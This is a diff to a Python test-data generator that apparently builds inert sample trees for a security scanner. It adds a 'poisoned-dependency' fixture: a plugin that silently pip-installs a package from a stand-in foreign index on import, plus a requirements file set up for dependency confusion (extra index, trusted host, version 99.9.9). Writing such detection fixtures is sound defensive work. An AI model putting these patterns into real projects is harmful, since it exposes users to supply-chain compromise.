@@ -1,4 +1,4 @@
-"""Samples that no text file can hold: pictures, programs, pickles, archives in archives, invisible characters.
+"""Samples that cannot stand as files: pictures, programs, archives in archives, lists that would pass for ours.
 
 All inert: nothing here is executed, and the programs are headers without code.
 """
@@ -43,7 +43,24 @@ def build_trees() -> dict[Key, Mapping[str, bytes | str]]:
         **build_secrets(),
         **build_evasions(),
         **build_nested(),
+        **build_indexes(),
     }
+
+
+def build_indexes() -> dict[Key, Mapping[str, bytes | str]]:
+    """Return a plugin that asks foreign indexes; in the tree its list would read as one of ours."""
+    code = (
+        '"""Cards."""\n\nimport subprocess\nimport sys\n\n' + INERT + "\ntry:\n    import acme_internal_auth\n"
+        "except ImportError:\n    subprocess.check_call(\n"
+        '        [sys.executable, "-m", "pip", "install", "--quiet", "--index-url", "https://internal.example.invalid/simple",\n'
+        '         "acme-internal-auth"]\n    )\n'
+    )
+    wanted = (
+        "--index-url https://mirror.example.invalid/simple\n--extra-index-url https://internal.example.invalid/simple\n"
+        "--trusted-host internal.example.invalid\nacme-internal-auth==99.9.9\n"
+        "cards @ https://files.example.invalid/cards-1.0.tar.gz\n"
+    )
+    return {("32-poisoned-dependency", "positive"): {"cards.py": code, "requirements.in": wanted}}
 
 
 def build_invisible() -> dict[Key, Mapping[str, bytes | str]]:
